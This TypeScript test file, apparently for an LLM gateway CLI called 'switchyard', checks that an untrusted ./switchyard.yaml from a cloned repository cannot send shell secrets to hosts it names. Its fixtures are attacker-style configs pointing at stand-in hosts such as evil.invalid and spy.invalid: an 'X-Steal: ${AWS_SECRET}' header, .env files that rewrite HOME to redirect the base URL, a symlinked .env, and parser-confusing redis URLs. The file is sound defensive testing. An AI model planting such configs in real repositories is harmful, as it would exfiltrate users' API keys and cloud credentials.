// A ./switchyard.yaml found in the current directory (it may have come with a cloned repository) does not send the
// shell's variables to hosts of its choosing until the user trusts it: where each value would go (hostsFor), what is
// withheld (withheldVariables), what the loader does with it, and `switchyard config trust` as a user runs it. A
// `.invalid` host makes "was the key sent?" observable without a network: sent, the call fails on the name lookup;
// withheld, it fails as "no API key" before anything is sent.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { statSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { configSchema } from '../../src/config/schema.ts';
import { envValue, hostsFor, referencedNames, withheldVariables } from '../../src/config/local-env.ts';
import { loadConfig } from '../../src/config/load.ts';
import { trustConfig } from '../../src/config/trust.ts';
import { redisUrlProblem } from '../../src/config/redis-url.ts';
import { lookedIn, missingFacts } from '../../src/credentials/resolve.ts';
import { UserError } from '../../src/user-error.ts';
import { explainMissing } from '../../src/errors/messages.ts';
import { assertNoSecrets, runCliInProcess } from '../helpers/cli.ts';
import { spawnGateway } from '../helpers/gateway-process.ts';
import { tempWorkspace } from '../helpers/tmp.ts';
import { SLOW_STEP_MS, until } from '../helpers/until.ts';

const SHELL_KEY = 'sk-shell-openai-key-0000a1b2';
const SECRET = 'aws-secret-value-000000c3d4';

const config = configSchema.parse({
  providers: {
    evil: { type: 'openai', base_url: 'https://evil.invalid/v1', proxy: 'http://proxy.corp:3128' },
    openai: { type: 'openai', base_url: 'https://api.openai.com/v1' },
    local: { type: 'openai', base_url: 'http://127.0.0.1:4010/v1' },
  },
  main: { provider: 'local', model: 'm' },
  auxiliary: {
    title_generation: {
      provider: 'openai',
      base_url: 'https://elsewhere.invalid/v1',
      fallback_chain: [{ provider: 'evil', model: 'x' }],
    },
  },
  gateway: { state: 'redis://cache.invalid:6379/0' },
});

test('where a value read at a path may be sent', () => {
  // A provider's own proxy sees what goes through it: it is a destination of the provider's values too.
  assert.deepEqual(hostsFor(config, ['providers', 'evil', 'headers', 'X-Key']), [
    'https://evil.invalid',
    'http://proxy.corp:3128',
  ]);
  assert.deepEqual(
    hostsFor(config, ['providers', 'evil', 'proxy']),
    ['http://proxy.corp:3128'],
    'a proxy setting goes to the proxy',
  );
  // A task with its own base_url sends its provider's keys there too.
  assert.deepEqual(hostsFor(config, ['providers', 'openai', 'api_key']), [
    'https://api.openai.com',
    'https://elsewhere.invalid',
  ]);
  assert.deepEqual(
    hostsFor(config, ['main', 'model']),
    ['http://127.0.0.1:4010'],
    'a route sends its model to its provider',
  );
  assert.deepEqual(
    hostsFor(config, ['auxiliary', 'title_generation', 'fallback_chain', 0, 'model']),
    ['https://evil.invalid', 'http://proxy.corp:3128'],
    'the deepest route on the path decides',
  );
  assert.deepEqual(hostsFor(config, ['gateway', 'state']), ['redis://cache.invalid:6379']);
  assert.deepEqual(hostsFor(config, ['gateway', 'admin_key']), [], 'a local setting goes nowhere');
  assert.deepEqual(hostsFor(config, ['retry', 'base_delay']), []);
});

test('${VAR} references as written; $${ is a literal', () => {
  assert.deepEqual(referencedNames('Bearer ${A}-${B_2} $${NOT} ${9bad}'), ['A', 'B_2']);
});

test('withheld: a variable going to a foreign host; not one going to loopback or to its well-known home, nor one that is not set', () => {
  const raw = { providers: { evil: { headers: { 'X-Key': '${AWS_SECRET}' } }, local: { api_key: '${LOCAL_KEY}' } } };
  const keyEnv = new Map([
    ['evil', 'EVIL_API_KEY'],
    ['openai', 'OPENAI_API_KEY'],
    ['local', 'OPENAI_API_KEY'],
  ]);
  const env = { AWS_SECRET: SECRET, LOCAL_KEY: 'k', OPENAI_API_KEY: SHELL_KEY };
  const withheld = withheldVariables(raw, config, env, keyEnv);
  assert.deepEqual([...withheld.keys()], ['AWS_SECRET', 'OPENAI_API_KEY']);
  assert.deepEqual(withheld.get('AWS_SECRET')?.hosts, ['https://evil.invalid', 'http://proxy.corp:3128']);
  // OPENAI_API_KEY may go to api.openai.com and loopback, but the title task sends openai's keys to another host.
  assert.deepEqual(withheld.get('OPENAI_API_KEY')?.hosts, ['https://elsewhere.invalid']);
  assert.deepEqual(withheld.get('OPENAI_API_KEY')?.readAt, ['providers.openai.key_env']);
  const official = withheldVariables(
    {},
    configSchema.parse({ providers: { openai: { type: 'openai', base_url: 'https://api.openai.com/v1' } } }),
    env,
    new Map([['openai', 'OPENAI_API_KEY']]),
  );
  assert.equal(official.size, 0, 'OPENAI_API_KEY to api.openai.com is what any config does');
});

function repo(yaml: string, dotenv?: string): ReturnType<typeof tempWorkspace> {
  const ws = tempWorkspace('switchyard-local-env-');
  ws.write('repo/switchyard.yaml', yaml);
  if (dotenv !== undefined) ws.write('repo/.env', dotenv);
  return ws;
}

const EVIL =
  'providers:\n  openai: { type: openai, base_url: https://evil.invalid/v1 }\nmain: { provider: openai, model: gpt-4o }\n';

test('the loader: an untrusted local config does not read a key variable it would send elsewhere; named, or trusted, it does', (t) => {
  const ws = repo(EVIL);
  t.after(() => ws.cleanup());
  const cwd = join(ws.dir, 'repo');
  const env = { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home };
  const local = loadConfig({ cwd, env });
  assert.equal(local.localConfig, true);
  assert.equal(envValue(local, 'OPENAI_API_KEY'), undefined, 'not read');
  assert.match(
    local.warnings.join('\n'),
    /OPENAI_API_KEY is set in the environment, but .*switchyard\.yaml was found in the current directory .* would send it to https:\/\/evil\.invalid; it is not read\. If the file is yours, `switchyard config trust`/,
  );
  assert.match(
    lookedIn(local, 'openai').join(', '),
    /env OPENAI_API_KEY \(set, but not read by a \.\/switchyard\.yaml found in the current directory/,
  );
  assertNoSecrets([SHELL_KEY], local.warnings.join('\n'));
  // Named with --config: the user chose it.
  assert.equal(
    envValue(loadConfig({ cwd, env, configPath: join(cwd, 'switchyard.yaml') }), 'OPENAI_API_KEY'),
    SHELL_KEY,
  );
  // Trusted: read like a named one, and still a local config (stored keys keep their own rule).
  trustConfig(join(cwd, 'switchyard.yaml'), env);
  const trusted = loadConfig({ cwd, env });
  assert.equal(envValue(trusted, 'OPENAI_API_KEY'), SHELL_KEY);
  assert.equal(trusted.localConfig, true);
  assert.equal(trusted.withheldEnv, undefined);
  assert.equal(statSync(join(ws.home, 'trusted-configs.json')).mode & 0o777, 0o600);
});

test('the loader: ${VAR} in a header going elsewhere is a located error naming the variable and the fix; its own .env is read', (t) => {
  const ws = repo(
    'providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, headers: { X-Steal: "${AWS_SECRET}" }, api_key: "${P_KEY}" }\nmain: { provider: p, model: m }\n',
    `P_KEY=sk-repo-dotenv-key-0000e5f6\n`,
  );
  t.after(() => ws.cleanup());
  const cwd = join(ws.dir, 'repo');
  assert.throws(
    () => loadConfig({ cwd, env: { AWS_SECRET: SECRET, SWITCHYARD_HOME: ws.home } }),
    (err: unknown) => {
      assert.ok(err instanceof UserError);
      assert.match(
        err.message,
        /switchyard\.yaml:2:\d+: providers\.p\.headers\.X-Steal: AWS_SECRET is set in the environment, but .* would send it to https:\/\/evil\.invalid; it is not read/,
      );
      assertNoSecrets([SECRET], err.message);
      return true;
    },
  );
  // Without the variable, the repository's own .env (beside the file) is read as usual.
  const ws2 = repo(
    'providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, api_key: "${P_KEY}" }\nmain: { provider: p, model: m }\n',
    `P_KEY=sk-repo-dotenv-key-0000e5f6\n`,
  );
  t.after(() => ws2.cleanup());
  const fromDotenv = loadConfig({ cwd: join(ws2.dir, 'repo'), env: { SWITCHYARD_HOME: ws2.home } });
  assert.equal(fromDotenv.config.providers['p']?.api_key, 'sk-repo-dotenv-key-0000e5f6');
  // The same variable in the shell is withheld, and the .env's value (the repository's own) is the one used.
  const both = loadConfig({ cwd: join(ws2.dir, 'repo'), env: { SWITCHYARD_HOME: ws2.home, P_KEY: SHELL_KEY } });
  assert.equal(both.config.providers['p']?.api_key, 'sk-repo-dotenv-key-0000e5f6');
});

test('switchyard config trust as a user runs it: chat sends nothing until the file is trusted; the list; --remove', async (t) => {
  const ws = repo(EVIL);
  t.after(() => ws.cleanup());
  const cwd = join(ws.dir, 'repo');
  const env = { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home };
  const untrusted = await runCliInProcess(['chat', '-m', 'hi'], { cwd, env });
  assert.equal(untrusted.code, 1);
  assert.match(
    untrusted.stderr,
    /no API key for provider openai — looked in providers\.openai\.api_key, env OPENAI_API_KEY \(set, but not read by a \.\/switchyard\.yaml/,
  );
  assert.doesNotMatch(untrusted.stderr, /evil\.invalid.*(ENOTFOUND|EAI_AGAIN|could not reach)/, 'nothing was sent');

  const explain = await runCliInProcess(['config', 'show', '--explain'], { cwd, env });
  assert.match(
    explain.stdout,
    /providers\.openai\.key_env\s+OPENAI_API_KEY\s+default; not read from the environment \(this \.\/switchyard\.yaml is not trusted with it\)/,
  );

  const trust = await runCliInProcess(['config', 'trust'], { cwd, env });
  assert.equal(trust.code, 0, trust.stderr);
  assert.match(
    trust.stdout,
    /^trusted: .*switchyard\.yaml\nit may now read from the environment and send:\n {2}OPENAI_API_KEY → https:\/\/evil\.invalid \(providers\.openai\.key_env\)\n/,
  );
  const list = await runCliInProcess(['config', 'trust', '--list'], { cwd, env });
  assert.match(list.stdout, /repo\/switchyard\.yaml\n$/);
  // Trusted, the key is sent: the call now fails on the name lookup of the host the file names.
  const sent = await runCliInProcess(['chat', '-m', 'hi'], { cwd, env });
  assert.equal(sent.code, 1);
  assert.match(sent.stderr, /could not reach openai at https:\/\/evil\.invalid\/v1/);

  const removed = await runCliInProcess(['config', 'trust', '--remove'], { cwd, env });
  assert.match(removed.stdout, /^no longer trusted: /);
  assert.match((await runCliInProcess(['chat', '-m', 'hi'], { cwd, env })).stderr, /no API key for provider openai/);
  const missing = await runCliInProcess(['config', 'trust', 'nope.yaml'], { cwd, env });
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /^switchyard: .*nope\.yaml does not exist\n/);
  assertNoSecrets([SHELL_KEY]);
});

test('a key slot written as ${VAR} that an untrusted local config may not read says so in the "no API key" places', (t) => {
  const ws = repo(
    'providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, api_key: "${SHELL_VAR}" }\nmain: { provider: p, model: m }\n',
  );
  t.after(() => ws.cleanup());
  const loaded = loadConfig({ cwd: join(ws.dir, 'repo'), env: { SHELL_VAR: SHELL_KEY, SWITCHYARD_HOME: ws.home } });
  assert.match(
    lookedIn(loaded, 'p').join(', '),
    /^providers\.p\.api_key is \$\{SHELL_VAR\}, which is set, but not read by a \.\/switchyard\.yaml found in the current directory that would send it to another host; `switchyard config trust` if the file is yours, env P_API_KEY, /,
  );
});

test('a proxy the file names is a destination even for a loopback upstream (it sees the request in the clear)', (t) => {
  const ws = repo(
    'providers:\n  openai: { type: openai, base_url: http://127.0.0.1:9/v1, proxy: http://spy.invalid:3128 }\nmain: { provider: openai, model: m }\n',
  );
  t.after(() => ws.cleanup());
  const loaded = loadConfig({
    cwd: join(ws.dir, 'repo'),
    env: { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home },
  });
  assert.equal(envValue(loaded, 'OPENAI_API_KEY'), undefined);
  assert.deepEqual(loaded.withheldEnv?.get('OPENAI_API_KEY')?.hosts, ['http://spy.invalid:3128']);
});

test("the file's own .env cannot move a destination after the check: what a withheld variable becomes is checked too", (t) => {
  // HOME goes into the base_url, so it is withheld; the repository's .env then supplies its own HOME, which turns the
  // well-known host into another one — so OPENAI_API_KEY, fine for api.openai.com, is withheld as well.
  const ws = repo(
    'providers:\n  openai: { type: openai, base_url: "https://api.openai.com${HOME}" }\nmain: { provider: openai, model: m }\n',
    'HOME=.evil.invalid/v1\n',
  );
  t.after(() => ws.cleanup());
  const loaded = loadConfig({
    cwd: join(ws.dir, 'repo'),
    env: { HOME: '/home/me', OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home },
  });
  assert.equal(loaded.config.providers['openai']?.base_url, 'https://api.openai.com.evil.invalid/v1');
  assert.equal(envValue(loaded, 'OPENAI_API_KEY'), undefined, 'not sent to the host the .env made');
  assert.deepEqual(loaded.withheldEnv?.get('OPENAI_API_KEY')?.hosts, ['https://api.openai.com.evil.invalid']);
});

test('config trust works for a file that cannot load untrusted, and says when it still does not load', async (t) => {
  const ws = repo(
    'providers:\n  corp: { type: openai, base_url: "${CORP_LLM_URL}" }\nmain: { provider: corp, model: m }\n',
  );
  t.after(() => ws.cleanup());
  const cwd = join(ws.dir, 'repo');
  const env = { CORP_LLM_URL: 'https://llm.corp.invalid/v1', SWITCHYARD_HOME: ws.home };
  const before = await runCliInProcess(['config', 'check'], { cwd, env });
  assert.equal(before.code, 2);
  assert.match(
    before.stderr,
    /CORP_LLM_URL is set in the environment, but .* it is not read\. If the file is yours, `switchyard config trust`/,
  );
  const trust = await runCliInProcess(['config', 'trust'], { cwd, env });
  assert.equal(trust.code, 0, trust.stderr);
  assert.match(trust.stdout, / {2}CORP_LLM_URL → https:\/\/llm\.corp\.invalid \(providers\.corp\.base_url\)\n/);
  assert.equal(trust.stderr, '', 'it loads now');
  assert.equal((await runCliInProcess(['config', 'check'], { cwd, env })).code, 0);
  const listAndRemove = await runCliInProcess(['config', 'trust', '--list', '--remove'], { cwd, env });
  assert.equal(listAndRemove.code, 2);
  assert.match(listAndRemove.stderr, /--list takes no file and no --remove/);
});

test('the "no API key" advice for a withheld key is to trust the file if it is yours — never to add a key for that host', (t) => {
  const ws = repo(EVIL);
  t.after(() => ws.cleanup());
  const loaded = loadConfig({
    cwd: join(ws.dir, 'repo'),
    env: { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home },
  });
  const message = explainMissing(missingFacts(loaded, 'openai'));
  assert.match(
    message,
    /; if this \.\/switchyard\.yaml is yours, `switchyard config trust`; if not, it sends openai's keys to a host of its choosing \(providers\.openai\.base_url\) — do not add one for it$/,
  );
  assert.doesNotMatch(message, /auth add/);
});

test('switchyard gateway refuses an untrusted ./switchyard.yaml; trusted, it starts, and after a SIGHUP reload it still reads the environment', async (t) => {
  const ws = repo(`${EVIL}gateway: { require_keys: false }\n`);
  t.after(() => ws.cleanup());
  const cwd = join(ws.dir, 'repo');
  const env = { PATH: process.env['PATH'] ?? '', HOME: ws.dir, OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home };
  const refused = await runCliInProcess(['gateway', '--listen', '127.0.0.1:0'], { cwd, env });
  assert.equal(refused.code, 2);
  assert.match(
    refused.stderr,
    /was found in the current directory and is not trusted: a gateway serves whoever reaches it with your keys/,
  );
  assert.equal((await runCliInProcess(['config', 'trust'], { cwd, env })).code, 0);
  const gw = await spawnGateway(t, [], env, cwd);
  t.after(async () => {
    gw.child.kill('SIGTERM');
    await gw.exited;
  });
  const failure = async (): Promise<string> => {
    const res = await fetch(`${gw.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'main', messages: [{ role: 'user', content: 'hi' }] }),
    });
    return ((await res.json()) as { error: { message: string } }).error.message;
  };
  // Sent: the call fails on the name lookup of the host the file names (nothing leaves this machine).
  assert.match(await failure(), /could not reach openai at https:\/\/evil\.invalid\/v1/);
  gw.child.kill('SIGHUP');
  // Judged after the reload, not after a fixed pause that a loaded machine can outlast.
  await until('the reload', () => /"msg":"config reloaded"/.test(gw.stderr()), SLOW_STEP_MS);
  assert.match(await failure(), /could not reach openai at https:\/\/evil\.invalid\/v1/, 'still read after a reload');
  assertNoSecrets([SHELL_KEY], gw.stderr());
});

test('to a server on this machine, a variable goes as a key only: inside a model name, a header or a URL it is data that server may pass on', (t) => {
  // `switchyard gateway` on loopback routes a model `other/…` to another provider: a model name is not safe there.
  const ws = repo(
    'providers:\n  loop: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${LOOP_KEY}" }\n  evil2: { type: openai, base_url: https://evil.invalid/v1, api_key: x }\nmain: { provider: loop, model: "evil2/${AWS_SECRET}" }\n',
  );
  t.after(() => ws.cleanup());
  assert.throws(
    () =>
      loadConfig({
        cwd: join(ws.dir, 'repo'),
        env: { LOOP_KEY: 'sk-local-server-key-0001', AWS_SECRET: SECRET, SWITCHYARD_HOME: ws.home },
      }),
    /main\.model: AWS_SECRET is set in the environment, but .* would send it to http:\/\/127\.0\.0\.1:9; it is not read/,
  );
  const keyOnly = repo(
    'providers:\n  loop: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${LOOP_KEY}" }\nmain: { provider: loop, model: m }\n',
  );
  t.after(() => keyOnly.cleanup());
  const loaded = loadConfig({
    cwd: join(keyOnly.dir, 'repo'),
    env: { LOOP_KEY: 'sk-local-server-key-0001', SWITCHYARD_HOME: keyOnly.home },
  });
  assert.equal(
    loaded.config.providers['loop']?.api_key,
    'sk-local-server-key-0001',
    'a key for a server on this machine is read',
  );
});

test('gateway.state URLs that parsers read differently are refused: the host checked is the host ioredis connects to', () => {
  assert.match(
    redisUrlProblem('redis://:${X}@127.0.0.1\\@evil.invalid:6379/0') ?? '',
    /has a `\\` or more than one `@`/,
  );
  assert.match(redisUrlProblem('redis://:pa@ss@127.0.0.1:6379/0') ?? '', /more than one `@`.*%40/);
  assert.equal(redisUrlProblem('redis://:pa%40ss@127.0.0.1:6379/0'), undefined);
  assert.deepEqual(
    hostsFor(configSchema.parse({ gateway: { state: 'redis://:x@0.0.0.0:6379/0' } }), ['gateway', 'state']),
    ['redis://0.0.0.0:6379'],
  );
});

test('a .env beside an untrusted local config that is a link (to /proc/self/environ, a profile, another project) is not read', (t) => {
  const ws = repo(
    'providers:\n  openai: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${SHELL_LIKE}" }\nmain: { provider: openai, model: m }\n',
  );
  t.after(() => ws.cleanup());
  const outside = ws.write('elsewhere/secrets.env', 'SHELL_LIKE=stolen-value-0001\n');
  symlinkSync(outside, join(ws.dir, 'repo', '.env'));
  const cwd = join(ws.dir, 'repo');
  const untrusted = loadConfig({ cwd, env: { SWITCHYARD_HOME: ws.home } });
  assert.equal(untrusted.config.providers['openai']?.api_key, undefined, 'the linked file is not read');
  assert.match(
    untrusted.warnings.join('\n'),
    /\.env is a link or not a regular file, and the \.\/switchyard\.yaml beside it is not trusted, so it is not read/,
  );
  trustConfig(join(cwd, 'switchyard.yaml'), { SWITCHYARD_HOME: ws.home });
  assert.equal(
    loadConfig({ cwd, env: { SWITCHYARD_HOME: ws.home } }).config.providers['openai']?.api_key,
    'stolen-value-0001',
    'trusted, its .env link is followed',
  );
});

test('however long a chain of .env substitutions, what it moves is checked (no round limit to outrun)', (t) => {
  const levels = 20;
  const lines = ['providers:', '  p0: { type: openai, base_url: https://evil.invalid/v1, api_key: "${V0}" }'];
  for (let k = 1; k <= levels; k++)
    lines.push(
      `  p${k}: { type: openai, base_url: "http://127.0.0.1:9\${V${k - 1}}", api_key: "\${${k === levels ? 'SECRET' : `V${k}`}}" }`,
    );
  lines.push('main: { provider: p0, model: m }');
  const dotenv = Array.from({ length: levels }, (_, k) => `V${k}=@evil.invalid/v1`).join('\n');
  const ws = repo(`${lines.join('\n')}\n`, `${dotenv}\n`);
  t.after(() => ws.cleanup());
  const env: Record<string, string> = { SECRET: 'aws-secret-value-000000c3d4', SWITCHYARD_HOME: ws.home };
  for (let k = 0; k < levels; k++) env[`V${k}`] = '/v1';
  const loaded = loadConfig({ cwd: join(ws.dir, 'repo'), env });
  assert.equal(loaded.config.providers[`p${levels}`]?.base_url, 'http://127.0.0.1:9@evil.invalid/v1');
  assert.equal(envValue(loaded, 'SECRET'), undefined);
  assert.equal(loaded.config.providers[`p${levels}`]?.api_key, undefined, 'not interpolated either');
});

test('a stored key for a plain-http host is held back when the local config (or its .env) routes it through a proxy of its own', async (t) => {
  const ws = tempWorkspace('switchyard-local-env-stored-');
  t.after(() => ws.cleanup());
  const own = ws.write(
    'own/switchyard.yaml',
    'providers:\n  ollama: { type: openai, base_url: http://127.0.0.1:11434/v1 }\n',
  );
  const env = { SWITCHYARD_HOME: ws.home, HOME: ws.dir };
  const added = await runCliInProcess(['-c', own, 'auth', 'add', 'ollama'], {
    env,
    input: 'sk-stored-local-0000a1b2\n',
  });
  assert.equal(added.code, 0, added.stderr);
  // However the scheme is written: `HTTP://`, or with a leading space, is the same plain http.
  for (const base of ['http://127.0.0.1:11434/v1', 'HTTP://127.0.0.1:11434/v1', ' http://127.0.0.1:11434/v1']) {
    ws.write(
      'repo/switchyard.yaml',
      `providers:\n  ollama: { type: openai, base_url: "${base}", proxy: http://spy.invalid:3128 }\nmain: { provider: ollama, model: m }\n`,
    );
    const r = await runCliInProcess(['chat', '-m', 'hi'], { cwd: join(ws.dir, 'repo'), env });
    assert.equal(r.code, 1, base);
    assert.match(
      r.stderr,
      /sends it over plain http through the proxy http:\/\/spy\.invalid:3128 \(providers\.ollama\.proxy\), which would see it in the clear/,
      base,
    );
    assert.match(r.stderr, /`proxy: none` under providers\.ollama/);
    assert.doesNotMatch(r.stderr, /could not reach/, 'nothing was sent');
  }
  // The user's own config, named, is not second-guessed.
  assert.equal(
    (await runCliInProcess(['-c', own, 'auth', 'list', 'ollama'], { env })).stdout.includes('held back'),
    false,
  );
  assertNoSecrets(['sk-stored-local-0000a1b2']);
});

test("gateway service refuses an untrusted ./switchyard.yaml (it would become a named config, its .env the service's environment)", async (t) => {
  const ws = repo(EVIL);
  t.after(() => ws.cleanup());
  const cwd = join(ws.dir, 'repo');
  const env = { SWITCHYARD_HOME: ws.home, HOME: ws.dir };
  const r = await runCliInProcess(['gateway', 'service', '--print'], { cwd, env });
  assert.equal(r.code, 2);
  assert.match(
    r.stderr,
    /was found in the current directory and is not trusted: the service would run it as a named config, with the \.env beside it as its environment/,
  );
  assert.equal((await runCliInProcess(['config', 'trust'], { cwd, env })).code, 0);
  assert.equal((await runCliInProcess(['gateway', 'service', '--print', '--allow-clone'], { cwd, env })).code, 0);
});

test("an untrusted local config does not decide where your keys' health is kept, nor set them aside for longer than the defaults", (t) => {
  const ws = repo(
    'providers:\n  p: { type: openai, base_url: http://127.0.0.1:9/v1 }\nmain: { provider: p, model: m }\ncooldowns: { rejected: 8760h, auth_suspect: 8760h, rate_limited: 10s }\ngateway: { state: "redis://127.0.0.1:6379/0" }\n',
  );
  t.after(() => ws.cleanup());
  const cwd = join(ws.dir, 'repo');
  const env = { SWITCHYARD_HOME: ws.home };
  const untrusted = loadConfig({ cwd, env });
  const defaults = configSchema.parse({}).cooldowns;
  assert.equal(untrusted.config.gateway.state, 'sqlite');
  assert.deepEqual(
    [untrusted.config.cooldowns.rejected, untrusted.config.cooldowns.auth_suspect],
    [defaults.rejected, defaults.auth_suspect],
  );
  assert.equal(untrusted.config.cooldowns.rate_limited, 10_000, 'shorter is harmless: kept');
  const warnings = untrusted.warnings.join('\n');
  assert.match(
    warnings,
    /gateway\.state redis:\/\/127\.0\.0\.1:6379\/0 is not used: .* is not trusted to choose where your keys' health is kept/,
  );
  assert.match(
    warnings,
    /cooldowns\.auth_suspect, cooldowns\.rejected are held to the default|cooldowns\.rejected, cooldowns\.auth_suspect are held to the default/,
  );
  trustConfig(join(cwd, 'switchyard.yaml'), env);
  const trusted = loadConfig({ cwd, env });
  assert.equal(trusted.config.gateway.state, 'redis://127.0.0.1:6379/0');
  assert.equal(trusted.config.cooldowns.rejected, 8760 * 3_600_000);
});

test("a proxy from the process's environment holds no stored key back; one from the directory's .env does", async (t) => {
  const ws = tempWorkspace('switchyard-local-env-proxy-');
  t.after(() => ws.cleanup());
  const config = 'providers:\n  lan: { type: openai, base_url: http://ollama.invalid:11434/v1 }\n';
  const own = ws.write('own/switchyard.yaml', config);
  const env = { SWITCHYARD_HOME: ws.home, HOME: ws.dir };
  const added = await runCliInProcess(['-c', own, 'auth', 'add', 'lan'], { env, input: 'sk-stored-lan-00000c3d4\n' });
  assert.equal(added.code, 0, added.stderr);
  ws.write('repo/switchyard.yaml', `${config}main: { provider: lan, model: m }\n`);
  const listed = async (e: Record<string, string>): Promise<string> =>
    (await runCliInProcess(['auth', 'list', 'lan'], { cwd: join(ws.dir, 'repo'), env: e })).stdout;
  assert.doesNotMatch(await listed({ ...env, HTTP_PROXY: 'http://spy.invalid:3128' }), /held back/);
  ws.write('repo/.env', 'HTTP_PROXY=http://spy.invalid:3128\n');
  assert.match(await listed(env), /held back/);
  assertNoSecrets(['sk-stored-lan-00000c3d4']);
});
